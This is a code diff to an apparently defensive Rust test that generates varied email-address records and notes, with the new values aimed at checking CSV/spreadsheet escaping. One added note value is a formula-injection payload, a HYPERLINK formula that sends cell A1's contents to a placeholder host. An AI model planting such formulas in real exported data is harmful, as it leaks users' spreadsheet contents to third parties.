@@ -455,6 +455,8 @@ fn varied(home: &Home, entries: u64) {
         "'+49 30 1234'",
         "'''tis'",
         "'a@b =1'",
+        "'=HYPERLINK(\"http://x.example/?\"&A1&\"@\")'",
+        "'''=a@b'",
         "'ümlaut; semicolon'",
         "'\"'",
         "'#'",
@@ -462,7 +464,7 @@ fn varied(home: &Home, entries: u64) {
     let mut sql = String::from("BEGIN;");
     for number in 0..entries {
         let domain = ["example.com", "xn--bcher-kva.example", "[192.0.2.1]", "a.b.example.org"][below(4)];
-        let local = ["bob", "\"two words", "o''neil", "jörg", "\"a,b", "bob+tag", "-x", "=1"][below(8)];
+        let local = ["bob", "\"two words", "o''neil", "jörg", "\"a,b", "bob+tag", "-x", "=1", "''=1"][below(9)];
         let address = match below(10) {
             0 => format!("@d{number}.{}", domain.trim_matches(['[', ']'])),
             1 => format!("@.d{number}.example"),
@@ -478,7 +480,7 @@ fn varied(home: &Home, entries: u64) {
             kinds[below(5)],
             ["userunknown", "manual", "-own word", "=x"][below(4)],
             10 + below(16),
-            notes[below(13)],
+            notes[below(15)],
         );
     }
     home.sql(&(sql + "COMMIT"));
